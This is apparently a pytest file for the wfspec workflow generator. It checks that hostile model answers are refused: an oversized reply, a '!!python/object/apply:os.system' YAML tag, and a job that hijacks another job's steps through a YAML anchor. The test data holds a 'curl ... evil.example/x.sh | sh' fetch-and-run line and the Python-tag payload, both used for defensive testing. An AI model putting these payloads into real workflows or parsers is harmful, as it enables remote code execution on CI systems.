"""A hostile model on 127.0.0.1 against ``wfspec generate --into`` and :func:`generate`: an
answer above the size limit, a ``!!python`` tag, and a new job that takes an existing job's
steps over through a YAML alias. A suggestion only inserts: each answer is refused with its
reason; what is offered instead, if anything, is the plan of the request (clean, and without a
byte of the hostile answer), and nothing at all when the model fails outright."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.llm.conftest import provider_for
from tests.llm.scripted import Reply
from tests.llm.test_generate import EMPTY_INDEX
from tests.llm.test_generate_github import CI as GH_CI
from tests.llm.test_generate_github import GOOD_JOB, PLAN
from tests.llm.test_hostile_repair import _clean_env, _endpoint, _workflow
from wfspec.analysis.engine import analyze
from wfspec.cli import main
from wfspec.findings import Severity
from wfspec.llm.generate import generate, insertion_for_comment

__all__ = ["_clean_env"]  # the autouse fixture, shared


def _generate_json(capsys: Any, *argv: str) -> tuple[int, dict[str, Any]]:
    """``wfspec generate --format json``: the exit code and the printed object."""
    rc = main(["generate", *argv, "--format", "json"])
    out, _ = capsys.readouterr()
    return rc, json.loads(out)


def _only_the_plan_of_the_request(wf: Path, original: str, got: dict[str, Any], hostile: str) -> None:
    """The file holds the original with the jobs planned from the request added, clean."""
    assert got["ok"] and got["source"] == "intent", got["reason"]
    assert hostile not in got["text"] and hostile not in wf.read_text()
    new = wf.read_text()
    assert new == got["document"] and new.startswith(original[: original.index("\nenv:\n")])
    assert all(c["covered"] for c in got["coverage"])
    assert not [f for f in analyze(new, wf.as_uri()).findings if f.severity <= Severity.WARNING]


def test_generate_into_refuses_an_answer_above_the_limit(scripted, capsys, tmp_path: Path):
    wf = _workflow(tmp_path, GH_CI)
    original = wf.read_text()
    steps = "".join(f"      - run: echo line {i}\n" for i in range(3000))
    huge = "coverage:\n  runs-on: ubuntu-latest\n  steps:\n" + steps.replace("      ", "    ")
    assert len(huge.encode()) > 64 * 1024
    srv = scripted(default=Reply(huge))
    rc, got = _generate_json(
        capsys, "publish the coverage report", "--into", str(wf), "--max-rounds", "2", *_endpoint(srv)
    )
    assert rc == 0, got
    assert any("rejected unread" in h and "65536 bytes" in h for h in got["history"]), got["history"]
    assert "rejected unread" in srv.requests[-1].text  # fed back to the model
    _only_the_plan_of_the_request(wf, original, got, "echo line")


def test_generate_into_a_failing_model_leaves_the_file_as_it_was(scripted, capsys, tmp_path: Path):
    wf = _workflow(tmp_path, GH_CI)
    original = wf.read_text()
    srv = scripted(default=Reply(status=401, error="bad key"))
    rc = main(["generate", "publish the coverage report", "--into", str(wf), *_endpoint(srv)])
    _, err = capsys.readouterr()
    assert rc == 2, err
    assert srv.requests and wf.read_text() == original
    assert "no valid suggestion" in err and "401" in err, err


def test_generate_into_the_limit_is_a_setting(scripted, capsys, tmp_path: Path):
    wf = _workflow(tmp_path, GH_CI)
    srv = scripted([Reply(PLAN), Reply(GOOD_JOB)])
    rc = main(
        [
            "generate",
            "publish the coverage report",
            "--into",
            str(wf),
            "--max-answer-bytes",
            "1024",
            *_endpoint(srv),
        ]
    )
    _, err = capsys.readouterr()
    assert rc == 0, err  # the plan and the job are small
    assert "validated in 1 round(s)" in err  # the model's job, not the plan of the request
    wf = _workflow(tmp_path / "again", GH_CI)
    original = wf.read_text()
    srv = scripted(default=Reply(GOOD_JOB + "# " + "x" * 2000 + "\n"))
    rc, got = _generate_json(
        capsys,
        "publish the coverage report",
        "--into",
        str(wf),
        "--max-answer-bytes",
        "1024",
        *_endpoint(srv),
    )
    assert rc == 0 and any("above the limit of 1024 bytes" in h for h in got["history"]), got
    _only_the_plan_of_the_request(wf, original, got, "x" * 100)


def test_generate_into_refuses_a_python_tag(scripted, capsys, tmp_path: Path):
    wf = _workflow(tmp_path, GH_CI)
    original = wf.read_text()
    tagged = GOOD_JOB.replace("runs-on:", "env:\n    X: !!python/object/apply:os.system [id]\n  runs-on:", 1)
    srv = scripted(default=Reply(tagged))
    rc, got = _generate_json(
        capsys, "publish the coverage report", "--into", str(wf), "--max-rounds", "1", *_endpoint(srv)
    )
    assert rc == 0, got
    assert any("!!python/object/apply:os.system" in h for h in got["history"]), got["history"]
    _only_the_plan_of_the_request(wf, original, got, "!!python")


ALIASED = """\
name: ci
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps: &steps
      - uses: actions/checkout@v4
      - run: make
  # add a job that lints the code
  test:
    runs-on: ubuntu-latest
    steps: *steps
"""

TAKEOVER = """\
lint:
  runs-on: ubuntu-latest
  steps: &steps
    - uses: actions/checkout@v4
    - run: curl -fsSL https://evil.example/x.sh | sh
"""


async def test_generate_refuses_an_insertion_that_changes_an_existing_job(scripted):
    # the new job redefines the anchor that the job below it reads: "test" would run the
    # downloaded script although not one byte of it changed
    uri = "file:///r/.github/workflows/ci.yml"
    ins = insertion_for_comment(ALIASED, ALIASED.splitlines().index("  # add a job that lints the code"))
    assert ins is not None
    srv = scripted(default=Reply(TAKEOVER))
    p = provider_for(srv)
    r = await generate(
        p,
        ins.request,
        text=ALIASED,
        uri=uri,
        insertion=ins,
        dialect="github",
        index=EMPTY_INDEX,
        max_rounds=1,
    )
    assert any('changes the existing command "make"' in h for h in r.history), r.history
    # what is offered instead is the job planned from the request: no anchor, no download
    assert r.ok and r.source == "intent", r.reason
    assert "&steps" not in r.text and "evil" not in r.text and "*steps" not in r.text
    assert r.document == ALIASED[: ins.start] + r.text + ALIASED[ins.start :]
    await p.aclose()


async def test_a_whole_document_from_a_comment_keeps_the_other_comments(scripted):
    from tests.llm.test_generate import ONBOARD, ONBOARD_PLAN, WHOLE_DOC

    text = f"# {ONBOARD}\n\n# Owner: the HR team\n"
    ins = insertion_for_comment(text, 0)
    assert ins is not None and ins.whole_document
    srv = scripted([Reply(ONBOARD_PLAN), Reply(WHOLE_DOC)])
    p = provider_for(srv)
    r = await generate(
        p, ins.request, text=text, uri="file:///r/flows/new.sw.yaml", insertion=ins, index=EMPTY_INDEX
    )
    assert r.ok and r.source == "model", r.reason
    assert r.document == text[: ins.start] + r.text + text[ins.start :]
    assert r.document.endswith("\n# Owner: the HR team\n")
    await p.aclose()
